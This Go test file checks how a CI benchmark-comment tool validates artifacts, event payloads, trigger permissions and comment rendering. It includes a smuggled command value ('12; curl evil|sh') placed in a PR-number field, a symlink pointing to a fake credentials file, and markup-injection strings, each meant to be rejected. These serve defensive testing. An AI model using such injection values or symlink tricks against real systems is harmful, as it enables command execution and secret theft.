package prcomment

import (
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/flameiq/git-flameiq/internal/golden"
)

var (
	headA = strings.Repeat("a", 40)
	headB = strings.Repeat("b", 40)
)

// artifact writes an artifact directory; files maps a name to its
// content (a missing name: the usual content; "" with del: absent).
func artifact(t *testing.T, name string, files map[string]string) string {
	t.Helper()
	dir := filepath.Join(t.TempDir(), name)
	if err := os.MkdirAll(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	def := map[string]string{FilePR: "12\n", FileHead: headA + "\n", FileExitCode: "0\n", FileReport: Marker + "\n### ✅ no regression\n"}
	for k, v := range files {
		def[k] = v
	}
	for k, v := range def {
		if v == "<absent>" {
			continue
		}
		if err := os.WriteFile(filepath.Join(dir, k), []byte(v), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return dir
}

func TestReadArtifact(t *testing.T) {
	a, err := ReadArtifact(artifact(t, "flameiq-linux", nil))
	if err != nil || a.PR != 12 || a.Head != headA || a.ExitCode != 0 || !strings.Contains(string(a.Report), "no regression") || a.Name != "flameiq-linux" {
		t.Fatalf("good artifact: %+v %v", a, err)
	}
	if a, err := ReadArtifact(artifact(t, "x", map[string]string{FileExitCode: "2", FileReport: "<absent>"})); err != nil || a.Report != nil {
		t.Errorf("diff failed, no report: %+v %v", a, err)
	}
	for _, tc := range []struct {
		name  string
		files map[string]string
		want  string
	}{
		{"oversized report", map[string]string{FileReport: strings.Repeat("x", MaxReport+1)}, "65537 bytes, more than the 65536 allowed"},
		{"pr number with a command", map[string]string{FilePR: "12; curl evil|sh"}, `"12; curl evil|sh" is not a pull request number`},
		{"pr number zero", map[string]string{FilePR: "0"}, "not a pull request number"},
		{"pr number huge", map[string]string{FilePR: "123456789012"}, "not a pull request number"},
		{"pr number two lines", map[string]string{FilePR: "12\n13\n"}, "not a pull request number"},
		{"pr number long", map[string]string{FilePR: strings.Repeat("1", 200)}, "more than the 100 allowed"},
		{"head not hex", map[string]string{FileHead: "main"}, "not a commit id"},
		{"head upper case", map[string]string{FileHead: strings.ToUpper(headA)}, "not a commit id"},
		{"exit code 7", map[string]string{FileExitCode: "7"}, "not an exit code"},
		{"no pr number", map[string]string{FilePR: "<absent>"}, "pr-number: missing"},
		{"no report but diff ran", map[string]string{FileExitCode: "1", FileReport: "<absent>"}, "report.md: missing, but exit-code says diff ran (exit 1)"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			_, err := ReadArtifact(artifact(t, "x", tc.files))
			var de *DataError
			if !errors.As(err, &de) || !strings.Contains(err.Error(), tc.want) {
				t.Errorf("err = %v, want a DataError containing %q", err, tc.want)
			}
		})
	}
	t.Run("symlink", func(t *testing.T) {
		dir := artifact(t, "x", map[string]string{FileReport: "<absent>"})
		secret := filepath.Join(t.TempDir(), "credentials")
		os.WriteFile(secret, []byte("token"), 0o600)
		if err := os.Symlink(secret, filepath.Join(dir, FileReport)); err != nil {
			t.Skip(err)
		}
		if _, err := ReadArtifact(dir); err == nil || !strings.Contains(err.Error(), "not a regular file") {
			t.Errorf("symlinked report.md: %v", err)
		}
	})
	t.Run("directory", func(t *testing.T) {
		dir := artifact(t, "x", map[string]string{FileReport: "<absent>"})
		os.Mkdir(filepath.Join(dir, FileReport), 0o755)
		if _, err := ReadArtifact(dir); err == nil || !strings.Contains(err.Error(), "not a regular file") {
			t.Errorf("report.md a directory: %v", err)
		}
	})
}

func TestCheck(t *testing.T) {
	art := func(pr int, head string) []Artifact { return []Artifact{{Name: "a", PR: pr, Head: head}} }
	run := func(pulls ...PullRef) Event {
		return Event{Repo: "o/r", Kind: "workflow_run", RunEvent: "pull_request", RunHead: headA,
			HeadRepo: "fork/r", HeadBranch: "feature", Pulls: pulls}
	}
	bench := func(assoc string, pr int) Event {
		return Event{Repo: "o/r", Kind: "issue_comment", PR: pr, Association: assoc}
	}
	pull := &Pull{Number: 12, Head: headA, HeadRef: "feature", HeadRepo: "fork/r", BaseRepo: "o/r"}
	with := func(f func(p *Pull)) *Pull { p := *pull; f(&p); return &p }
	const ok, data, usage, stale = "ok", "data", "usage", "stale"
	for _, tc := range []struct {
		name string
		ev   Event
		pull *Pull
		arts []Artifact
		want string
		msg  string
	}{
		{"fork PR, pull JSON agrees", run(), pull, art(12, headA), ok, ""},
		{"same-repo PR listed", run(PullRef{12, headA}), nil, art(12, headA), ok, ""},
		{"same-repo PR listed, pull agrees", run(PullRef{12, headA}), pull, art(12, headA), ok, ""},
		{"pull_request event", Event{Repo: "o/r", Kind: "pull_request", PR: 12, PRHead: headA}, nil, art(12, headA), ok, ""},
		{"wrong PR, event lists another", run(PullRef{7, headA}), nil, art(12, headA), data, "names #12, but the workflow run is for #7"},
		{"wrong PR: another PR's head", run(), with(func(p *Pull) { p.HeadRepo, p.HeadRef = "victim/r", "main" }), art(12, headA), data,
			"#12, whose head is victim/r:main, but the workflow run measured fork/r:feature"},
		{"wrong head", run(), pull, art(12, headB), data, "names head bbbbbbbbbbbb, but the workflow run measured aaaaaaaaaaaa"},
		{"PR into another repository", run(), with(func(p *Pull) { p.BaseRepo = "other/r" }), art(12, headA), data, "into other/r, not into o/r"},
		{"pull_request event, other PR", Event{Repo: "o/r", Kind: "pull_request", PR: 13, PRHead: headA}, nil, art(12, headA), data, "this run is for #13"},
		{"artifacts disagree", run(), pull, []Artifact{{Name: "a", PR: 12, Head: headA}, {Name: "b", PR: 13, Head: headA}}, data, "artifacts disagree"},
		{"fork PR without pull JSON", run(), nil, art(12, headA), usage, "pass --pull with the JSON of GET /repos/o/r/pulls/12"},
		{"pull JSON of another number", run(), with(func(p *Pull) { p.Number = 13 }), art(12, headA), usage, "--pull is #13"},
		{"push run", func() Event { e := run(); e.RunEvent = "push"; return e }(), pull, art(12, headA), usage, `triggered by "push"`},
		{"PR moved on", run(), with(func(p *Pull) { p.Head = headB }), art(12, headA), stale, "#12 is now at bbbbbbbbbbbb"},
		{"/bench by a member", bench("MEMBER", 12), pull, art(12, headA), ok, ""},
		{"/bench by an outsider", bench("NONE", 12), pull, art(12, headA), usage, `the comment's author is "NONE" with this repository, not one of OWNER, MEMBER, COLLABORATOR`},
		{"/bench by a contributor", bench("CONTRIBUTOR", 12), pull, art(12, headA), usage, "not one of"},
		{"/bench, artifact for another PR", bench("OWNER", 7), pull, art(12, headA), data, "names #12, but the comment is on #7"},
		{"/bench without pull JSON", bench("OWNER", 12), nil, art(12, headA), usage, "pass --pull"},
		{"/bench, pull JSON of another repository", bench("OWNER", 12), with(func(p *Pull) { p.BaseRepo = "x/y" }), art(12, headA), usage, "into x/y"},
		{"/bench, PR pushed since", bench("OWNER", 12), with(func(p *Pull) { p.Head = headB }), art(12, headA), stale, "comment again"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			n, err := Check(tc.ev, tc.pull, tc.arts)
			var de *DataError
			var ue *UsageError
			got := ok
			switch {
			case errors.Is(err, ErrStale):
				got = stale
			case errors.As(err, &de):
				got = data
			case errors.As(err, &ue):
				got = usage
			case err != nil:
				got = "other: " + err.Error()
			}
			if got != tc.want || (err != nil && !strings.Contains(err.Error(), tc.msg)) {
				t.Fatalf("Check = %d, %v (%s); want %s with %q", n, err, got, tc.want, tc.msg)
			}
			if got == ok && n != 12 {
				t.Errorf("number = %d", n)
			}
		})
	}
}

func TestReadEvent(t *testing.T) {
	dir := t.TempDir()
	write := func(name, s string) string {
		p := filepath.Join(dir, name)
		os.WriteFile(p, []byte(s), 0o644)
		return p
	}
	ev, err := ReadEvent(write("run.json", `{"repository":{"full_name":"o/r"},"workflow_run":{"event":"pull_request","head_sha":"`+strings.ToUpper(headA)+
		`","head_branch":"f","head_repository":{"full_name":"fork/r"},"pull_requests":[{"number":3,"head":{"sha":"`+headB+`"}}]}}`))
	if err != nil || ev.Kind != "workflow_run" || ev.RunHead != headA || ev.HeadRepo != "fork/r" || len(ev.Pulls) != 1 || ev.Pulls[0] != (PullRef{3, headB}) {
		t.Errorf("workflow_run: %+v %v", ev, err)
	}
	ev, err = ReadEvent(write("pr.json", `{"repository":{"full_name":"o/r"},"pull_request":{"number":4,"head":{"sha":"`+headA+`"}}}`))
	if err != nil || ev.Kind != "pull_request" || ev.PR != 4 || ev.PRHead != headA {
		t.Errorf("pull_request: %+v %v", ev, err)
	}
	ev, err = ReadEvent(write("comment.json", `{"repository":{"full_name":"o/r"},"issue":{"number":5,"pull_request":{"url":"u"}},"comment":{"author_association":"MEMBER","body":"/bench"}}`))
	if err != nil || ev.Kind != "issue_comment" || ev.PR != 5 || ev.Association != "MEMBER" {
		t.Errorf("issue_comment: %+v %v", ev, err)
	}
	for name, s := range map[string]string{
		"issue.json": `{"repository":{"full_name":"o/r"},"issue":{"number":5},"comment":{"author_association":"OWNER"}}`,
		"push.json":  `{"repository":{"full_name":"o/r"},"ref":"refs/heads/main"}`,
		"bad.json":   `{"repository":`,
		"nosha.json": `{"repository":{"full_name":"o/r"},"workflow_run":{"event":"pull_request","head_sha":"x"}}`,
	} {
		var ue *UsageError
		if _, err := ReadEvent(write(name, s)); !errors.As(err, &ue) {
			t.Errorf("%s: %v, want a UsageError", name, err)
		}
	}
}

func TestRender(t *testing.T) {
	report := func(s string) []byte { return []byte(Marker + "\n" + s) }
	one := []Artifact{{Name: "flameiq-comment", Report: report("### ✅ no regression\n\n<sub>git-flameiq</sub>\n")}}
	golden.Check(t, filepath.Join("testdata", "single.md.golden"), Render(Marker, one))

	matrix := []Artifact{
		{Name: "flameiq-ubuntu-go1.26", ExitCode: 1, Report: report("### ❌ 1 regression\n\n| ❌ | Work-2:sec/op | +12% |\n")},
		{Name: "flameiq-macos-go1.26", ExitCode: 0, Report: report("### ✅ no regression\n\n<details><summary>All</summary>\n\n</details>\n")},
		{Name: "flameiq-windows <b>@x</b>", ExitCode: 2},
		{Name: "flameiq-hostile", ExitCode: 0, Report: report("</details></details><!-- git-flameiq -->\n@team #1 [x](http://e)\n```\n")},
	}
	golden.Check(t, filepath.Join("testdata", "matrix.md.golden"), Render(Marker, matrix))

	big := []Artifact{{Name: "a", Report: []byte(strings.Repeat("| x | @y |\n", 8000))}, {Name: "b", Report: []byte(strings.Repeat("z\n", 40000))}}
	body := Render(Marker, big)
	if m, err := MarkerFor("bench"); err != nil || !strings.HasPrefix(string(Render(m, one)), "<!-- git-flameiq:bench -->\n### ✅") {
		t.Errorf("MarkerFor(bench): %q %v", m, err)
	}
	for _, id := range []string{"a b", "x-->", strings.Repeat("a", 33)} {
		if _, err := MarkerFor(id); err == nil {
			t.Errorf("MarkerFor(%q) accepted", id)
		}
	}
	if len(body) > MaxBody || strings.Count(string(body), "cut short (comment size limit)") != 2 {
		t.Errorf("two big reports: %d bytes (max %d), %d cut notes", len(body), MaxBody, strings.Count(string(body), "cut short"))
	}
	if !strings.HasPrefix(string(body), Marker+"\n") || strings.Count(string(body), "<!--") != 1 {
		t.Errorf("the body must start with the one marker")
	}
}
